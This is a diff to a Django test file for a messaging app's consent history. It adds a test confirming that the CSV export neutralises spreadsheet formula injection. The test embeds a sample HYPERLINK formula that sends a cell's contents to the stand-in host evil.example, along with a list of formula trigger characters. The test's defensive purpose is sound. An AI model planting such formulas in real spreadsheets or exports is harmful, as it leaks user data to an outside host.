@@ -1,5 +1,8 @@
 """Consent keywords arrive as customer messages: recorded with the message, confirmed inside the window."""
 
+import csv
+import io
+
 import pytest
 from django.contrib.admin.sites import site
 from django.test import Client
@@ -135,4 +138,20 @@ def test_managers_export_the_history_as_csv():
     lines = b"".join(response.streaming_content).decode().splitlines()
     assert response["Content-Type"].startswith("text/csv")
     assert lines[0].startswith("channel,customer_number,customer_name,scope,status,method")
-    assert lines[1].startswith("whatsapp,+16505551234,Ana Lima,all,opted_out,keyword")
+    assert lines[1].startswith("whatsapp,'+16505551234,Ana Lima,all,opted_out,keyword")
+
+
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_export_shows_a_formula_a_customer_or_agent_wrote_as_text(trigger):
+    """OWASP's CSV injection: a spreadsheet must show, never run, what people typed."""
+    formula = f"{trigger}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    record_inbound_message(event=inbound_message(text="STOP", sender_name=formula))
+    client = Client()
+    client.force_login(manager())
+
+    response = client.get("/api/v1/consent/export/")
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][2] == f"'{formula}"
+    assert rows[1][1] == "'+16505551234"  # the number too: a spreadsheet would read `+1650…` as a formula
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)
